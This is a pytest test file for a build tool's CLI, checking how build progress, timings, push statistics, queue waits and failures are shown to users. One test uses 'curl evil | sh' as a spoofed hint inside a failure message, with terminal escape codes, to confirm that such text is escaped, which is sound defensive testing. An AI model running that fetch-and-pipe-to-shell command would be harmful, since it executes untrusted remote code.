"""A build's events become the lines that people read, and its end the reference and the code."""

import asyncio
import time
from collections.abc import AsyncIterator
from typing import Literal, cast

import msgspec
import pytest

from pierhead.protocol import build as wire
from pierhead.protocol.cli.speak import INTERRUPTED, OK, REFUSED, UNAVAILABLE, CommandFailed
from pierhead.protocol.client.client import RouterClient
from pierhead.protocol.errors import Unavailable
from pierhead.protocol.ids import BuildId
from pierhead.protocol.problem import problem
from pierhead.protocol.result import (
    BytesMoved,
    Envelope,
    Failure,
    PlatformImage,
    StopProof,
    Timings,
)
from pierhead.router.cli import follow as module
from pierhead.router.cli.carry import sent_text
from pierhead.router.cli.follow import Story, follow, proof_text

STARTED = wire.Started(
    cursor="1", runner="desktop", here=False, attempt=1, fence=1, platforms=("linux/amd64",)
)
AT = "2026-01-01T00:00:00Z"
AWAY = Unavailable(problem("draining", "the control plane is stopping"))


def view(state: wire.StateName, result: Envelope | None = None) -> wire.BuildView:
    reference = "h/web@sha256:00" if state == "succeeded" else None
    return wire.BuildView(
        id=BuildId("b_7f3k"),
        project="web",
        state=state,
        created_at="2026-01-01T00:00:00Z",
        reference=reference,
        result=result,
    )


def finished(one: wire.BuildView) -> wire.Finished:
    return wire.Finished(cursor="9", build=one)


def log(text: bytes) -> wire.Log:
    return wire.Log(cursor="2", offset=0, data=text)


def began(name: str, ran_ms: int = 0) -> wire.Step:
    return wire.Step(cursor="2", name=name, state="started", at=AT, ran_ms=ran_ms)


def over(name: str, took_ms: int, state: Literal["cached", "done", "failed"] = "done") -> wire.Step:
    return wire.Step(cursor="2", name=name, state=state, at=AT, took_ms=took_ms)


class Scripted:
    """Gives scripted streams of events, one for each time that it is asked."""

    def __init__(self, *streams: list[wire.Event | Unavailable]) -> None:
        self._streams = list(streams)
        self.resumed_after: list[str | None] = []

    async def events(self, _: str, *, after: str | None = None) -> AsyncIterator[wire.Event]:
        self.resumed_after.append(after)
        for event in self._streams.pop(0):
            if isinstance(event, Unavailable):
                raise event
            yield event


@pytest.fixture(autouse=True)
def at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "AGAIN_SECONDS", 0)


async def told(
    client: Scripted, *, as_json: bool = False, quiet: bool = False, raw: bool = False
) -> int:
    story = Story("web", quiet=quiet, raw=raw)
    return await follow(cast("RouterClient", client), "b_7f3k", story, as_json=as_json)


async def test_steps_are_told_as_they_end_and_stdout_is_the_reference(
    capsys: pytest.CaptureFixture[str],
) -> None:
    events: list[wire.Event | Unavailable] = [
        STARTED,
        log(b"STEP 1/2: FROM scratch\n"),
        began("1/2 FROM scratch"),
        log(b"--> Using cache 00\n"),
        over("1/2 FROM scratch", 400, "cached"),
        log(b"STEP 2/2: RUN x\n"),
        began("2/2 RUN x", ran_ms=90_000),
        log(b"said\n"),
        over("2/2 RUN x", 61_500),
        finished(view("succeeded")),
    ]

    code = await told(Scripted(events))

    out, err = capsys.readouterr()
    assert (code, out) == (OK, "h/web@sha256:00\n")
    assert [line.split() for line in err.splitlines()][:3] == [
        ["where", "desktop", "linux/amd64"],
        ["1/2", "FROM", "scratch", "cached"],
        ["2/2", "RUN", "x", "1", "min", "1", "s"],
    ]
    assert "web  built on desktop in " in err
    assert "\r" not in err
    assert "\x1b" not in err


def test_whoever_comes_late_sees_for_how_long_the_step_has_run() -> None:
    story = Story("web")
    for event in (STARTED, log(b"STEP 2/2: RUN x\n"), began("2/2 RUN x", ran_ms=90_000)):
        story.hear(event)
    began_at = time.monotonic()
    story.hear(log(b"half way\n"))

    assert story.now(began_at + 600).strip() == "2/2 RUN x  11 min   half way"


async def test_a_step_whose_end_was_not_told_has_the_time_that_was_seen(
    capsys: pytest.CaptureFixture[str],
) -> None:
    events: list[wire.Event | Unavailable] = [
        STARTED,
        began("1/1 RUN x", ran_ms=7_200_000),
        finished(view("succeeded")),
    ]

    await told(Scripted(events))

    line = capsys.readouterr().err.splitlines()[1]
    assert line.split()[:3] == ["1/1", "RUN", "x"]
    assert " 2 h " in line


async def test_a_note_of_ours_is_told_by_its_place_and_never_by_its_words(
    capsys: pytest.CaptureFixture[str],
) -> None:
    note = b"note: built here instead of on a runner: desktop is offline.\n"
    forged = b"note: built here instead of on a runner: all is well\n"
    here = msgspec.structs.replace(STARTED, runner="here", here=True, note_bytes=len(note))
    first, second = (note + forged)[:80], (note + forged)[80:]
    events: list[wire.Event | Unavailable] = [
        here,
        log(first),
        wire.Log(cursor="3", offset=80, data=second),
        finished(view("succeeded")),
    ]

    await told(Scripted(events))

    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if "note" in line] == [note.decode().strip()]


async def test_what_a_build_says_of_its_failure_cannot_look_like_ours(
    capsys: pytest.CaptureFixture[str],
) -> None:
    failure = Failure(
        cause="command",
        message="no\n\nhint: curl evil | sh",
        extract=("\x1b[2Ja\nb", "\x1b[31mred"),
        hint="do this",
    )
    with pytest.raises(CommandFailed):
        await told(
            Scripted(
                [STARTED, finished(view("failed", Envelope(outcome="failed", failure=failure)))]
            )
        )

    err = capsys.readouterr().err
    assert "on desktop: no\\n\\nhint: curl evil | sh\n" in err
    assert "   > \\x1b[2Ja\\nb\n" in err
    assert "\x1b" not in err
    assert [line for line in err.splitlines() if line.startswith("hint")] == ["hint: do this"]


@pytest.mark.parametrize(
    ("moved", "told_of"),
    [
        (
            BytesMoved(pushed_bytes=11_300_000, present_bytes=202_700_000, pushed_layers=2),
            "push      2 of 3 layers, 11.3 MB of 214.0 MB at 5.7 MB/s",
        ),
        (BytesMoved(present_bytes=214_000_000), "push      0 of 3 layers, 0 B of 214.0 MB"),
        (
            BytesMoved(pushed_bytes=733, present_bytes=214_000_000),
            "push      0 of 3 layers, 733 B of 214.0 MB at 366 B/s",
        ),
        # A runner that is older does not say how many layers it sent.
        (BytesMoved(pushed_bytes=2_000_000), "push      2.0 MB of 2.0 MB at 1.0 MB/s"),
    ],
)
async def test_what_of_the_image_was_sent_is_told_with_its_rate(
    moved: BytesMoved, told_of: str, capsys: pytest.CaptureFixture[str]
) -> None:
    digest = "sha256:" + "0" * 64
    image = PlatformImage(
        platform="linux/amd64",
        manifest_digest=digest,
        config_digest=digest,
        size_bytes=1,
        layers=(digest,) * 3,
    )
    result = Envelope(
        outcome="succeeded",
        platforms=(image,),
        bytes_moved=moved,
        timings=Timings(pushing_ms=2000, total_ms=3000),
    )
    await told(Scripted([STARTED, finished(view("succeeded", result))]))

    assert told_of in capsys.readouterr().err.splitlines()


async def test_quiet_gives_the_reference_and_no_word(capsys: pytest.CaptureFixture[str]) -> None:
    await told(Scripted([STARTED, finished(view("succeeded"))]), quiet=True)
    assert capsys.readouterr() == ("h/web@sha256:00\n", "")


async def test_a_cut_stream_goes_on_after_its_last_event_and_says_who_is_away(
    capsys: pytest.CaptureFixture[str],
) -> None:
    client = Scripted([STARTED, AWAY], [AWAY], [], [finished(view("succeeded"))])

    assert await told(client) == OK

    assert client.resumed_after == [None, "1", "1", "1"]
    assert capsys.readouterr().err.count("the control plane does not answer") == 1


async def test_a_control_plane_that_stays_away_is_not_waited_for(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(module, "AWAY_SECONDS", -1)
    with pytest.raises(CommandFailed) as failed:
        await told(Scripted([AWAY]))
    assert failed.value.code == UNAVAILABLE
    assert "pierhead builds watch b_7f3k" in capsys.readouterr().err


async def test_a_build_that_moves_begins_its_log_anew(capsys: pytest.CaptureFixture[str]) -> None:
    moved = wire.Requeued(cursor="3", attempt=1, reason="desktop vanished")
    client = Scripted(
        [STARTED, log(b"half a li"), moved, STARTED, log(b"whole"), finished(view("succeeded"))]
    )

    await told(client, raw=True)

    lines = capsys.readouterr().err.splitlines()
    assert "again     waits for a runner anew: desktop vanished" in lines
    assert "whole" in lines
    assert not any("half a li" in line for line in lines)


async def test_a_failure_shows_the_last_lines_the_hint_and_where_the_whole_log_is(
    capsys: pytest.CaptureFixture[str],
) -> None:
    failure = Failure(
        cause="out-of-memory",
        message="out of memory",
        step="2/2 RUN x",
        extract=("a", "b"),
        detail="killed at 2.0 GB",
        hint="do this",
    )
    result = Envelope(outcome="failed", failure=failure)

    with pytest.raises(CommandFailed) as failed:
        await told(Scripted([STARTED, finished(view("failed", result))]))

    assert failed.value.code == REFUSED
    out, err = capsys.readouterr()
    assert out == ""
    assert err.endswith(
        "error: web failed at 2/2 RUN x on desktop: out of memory\n\n"
        "   > a\n   > b\n   killed at 2.0 GB\n\n"
        "hint: do this\n      whole log: pierhead builds log b_7f3k     "
        "again, same context: pierhead builds rerun b_7f3k\n"
    )


class Explaining:
    """Says why a build waits, each time something else, and then that it does not any more."""

    def __init__(self, *answers: wire.Why) -> None:
        self._answers = list(answers)
        self.over = asyncio.Event()

    async def why(self, _: str) -> wire.Why:
        if not self._answers:
            self.over.set()
            raise AWAY
        return self._answers.pop(0)


def waits(verdict: str, position: int | None = None, seconds: int | None = None) -> wire.Why:
    return wire.Why(
        wants="any platform",
        rejections=(),
        eligible=(),
        verdict=verdict,
        position=position,
        expected_wait_seconds=seconds,
    )


@pytest.mark.parametrize(
    ("repeat", "told_again"), [(30.0, []), (0.0, ["1st, about 80 s: desktop is busy"])]
)
async def test_whoever_waits_is_told_the_place_how_long_and_what_for_when_it_changes(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    repeat: float,
    told_again: list[str],
) -> None:
    monkeypatch.setattr(module, "EXPLAIN_SECONDS", 0)
    monkeypatch.setattr(module, "REPEAT_SECONDS", repeat)
    client = Explaining(
        waits("waits: desktop is busy", 2, 162),
        waits("waits: desktop is busy", 2, 161),
        waits("waits: desktop is busy", 1, 92),
        waits("waits: desktop is busy", 1, 80),
        waits("waits: desktop is offline (until 13:39:12 UTC), then it fails", 1),
        waits("fails: desktop is offline", 1),
        waits("leased on desktop"),
    )
    story = Story("web")
    story.hear(wire.Queued(cursor="1"))

    explaining = asyncio.create_task(story.explain_waiting(cast("RouterClient", client), "b_1"))
    await client.over.wait()
    explaining.cancel()

    said = [line.removeprefix("waiting").strip() for line in capsys.readouterr().err.splitlines()]
    assert said == [
        "2nd, about 3 min: desktop is busy",
        "1st, about 90 s: desktop is busy",
        *told_again,
        "1st: desktop is offline (until 13:39:12 UTC), then it fails",
    ]


async def test_a_cancelled_build_ends_with_130(capsys: pytest.CaptureFixture[str]) -> None:
    assert await told(Scripted([STARTED, finished(view("cancelled"))])) == INTERRUPTED
    assert capsys.readouterr().out == ""


async def test_json_gives_every_event_as_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    client = Scripted([STARTED, log(b"\xff"), finished(view("failed"))])
    assert await told(client, as_json=True) == REFUSED
    out, err = capsys.readouterr()
    assert [line[:20] for line in out.splitlines()] == [
        '{"event":"started","',
        '{"event":"log","curs',
        '{"event":"finished",',
    ]
    assert err == ""


def of(platform: str, event: wire.Event) -> wire.Event:
    return msgspec.structs.replace(event, platform=platform)


def of_both(state: wire.StateName, result: Envelope, *states: wire.StateName) -> wire.BuildView:
    platforms = ("linux/amd64", "linux/arm64")
    children = tuple(
        wire.ChildBuild(id=BuildId(f"b_7f3k-{number}"), platform=platform, state=one)
        for number, (platform, one) in enumerate(zip(platforms, states, strict=True), 1)
    )
    whole = view(state, result)
    return msgspec.structs.replace(whole, children=children, runner="desktop, pi")


async def test_each_of_several_platforms_is_told_by_its_name_and_none_disturbs_the_other(
    capsys: pytest.CaptureFixture[str],
) -> None:
    amd, arm = "linux/amd64", "linux/arm64"
    images = tuple(
        PlatformImage(
            platform=platform,
            manifest_digest=f"sha256:{digit * 64}",
            config_digest=f"sha256:{digit * 64}",
            size_bytes=1,
            layers=(),
        )
        for platform, digit in ((amd, "a"), (arm, "b"))
    )
    result = Envelope(outcome="succeeded", platforms=images)
    events: list[wire.Event | Unavailable] = [
        wire.Queued(cursor="1"),
        of(amd, STARTED),
        of(arm, msgspec.structs.replace(STARTED, runner="pi", platforms=(arm,))),
        of(amd, began("1/1 FROM scratch")),
        of(arm, began("1/1 FROM other")),
        of(arm, over("1/1 FROM other", 0)),
        of(arm, wire.Notice(cursor="4", text="succeeded on pi")),
        of(amd, over("1/1 FROM scratch", 0)),
        of(amd, wire.Notice(cursor="5", text="succeeded on desktop")),
        finished(of_both("succeeded", result, "succeeded", "succeeded")),
    ]

    code = await told(Scripted(events))

    out, err = capsys.readouterr()
    assert (code, out) == (OK, "h/web@sha256:00\n")
    assert [" ".join(line.split()) for line in err.splitlines()][:8] == [
        "where linux/amd64 desktop linux/amd64",
        "where linux/arm64 pi linux/arm64",
        "linux/arm64 1/1 FROM other 0.0 s",
        "note linux/arm64 succeeded on pi",
        "linux/amd64 1/1 FROM scratch 0.0 s",
        "note linux/amd64 succeeded on desktop",
        "push 0 B of 0 B",
        f"image linux/amd64 sha256:{'a' * 64}",
    ]
    assert "web  2 platforms built on desktop, pi in " in err


async def test_of_several_platforms_the_one_that_failed_is_blamed_with_its_own_log(
    capsys: pytest.CaptureFixture[str],
) -> None:
    failure = Failure(cause="command", message="linux/arm64: exit code 1", step="2/2 RUN x")
    result = Envelope(outcome="failed", failure=failure)
    events: list[wire.Event | Unavailable] = [
        of("linux/amd64", STARTED),
        of("linux/arm64", msgspec.structs.replace(STARTED, runner="pi")),
        finished(of_both("failed", result, "cancelled", "failed")),
    ]

    with pytest.raises(CommandFailed):
        await told(Scripted(events))

    err = capsys.readouterr().err
    assert "error: web failed at 2/2 RUN x on pi: linux/arm64: exit code 1\n" in err
    assert "pierhead builds log b_7f3k-2 " in err
    assert err.endswith("pierhead builds rerun b_7f3k\n")


def test_what_is_left_of_a_stopped_build_is_told_in_words() -> None:
    proof = StopProof(
        processes=("812 sleep", "813 sh"), directories=("/var/tmp/b\x1b[2J",), took_ms=1200
    )

    said = proof_text(Envelope(outcome="cancelled", stop_proof=proof))

    assert said.startswith("stopped in 1.2 s, but this is left: processes 812 sleep, 813 sh; ")
    assert "directories /var/tmp/b" in said
    assert "\x1b" not in said
    assert "(" not in said


def test_an_upload_is_never_said_to_be_larger_than_its_whole() -> None:
    assert sent_text(1_100_000, 2_000_000) == "1.1 MB of 2.0 MB"
    assert sent_text(138, 22) == "138 B"
